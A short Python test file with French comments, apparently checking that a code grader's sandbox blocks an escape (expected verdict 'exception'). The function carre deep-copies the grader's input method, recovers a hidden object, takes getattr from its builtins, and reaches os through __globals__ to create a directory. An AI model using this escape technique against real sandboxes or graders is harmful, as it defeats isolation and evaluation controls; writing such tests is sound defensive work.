# Tente : copier en profondeur une méthode du correcteur (input), pour tenir l'objet qu'elle cache.
# Verdict : exception
import copy


def carre(n):
    memo = {}
    try:
        copy.deepcopy(input, memo)
    except TypeError:
        pass
    chaine = [objet for objet in memo.values() if type(objet) not in (dict, list)][0]
    chaine.__init__({}, None, True)
    lit = chaine._builtins["getattr"]
    lit(lit(input, "__func__"), "__globals__")["os"].mkdir("/tmp/trace_d_attaque")
    return -1
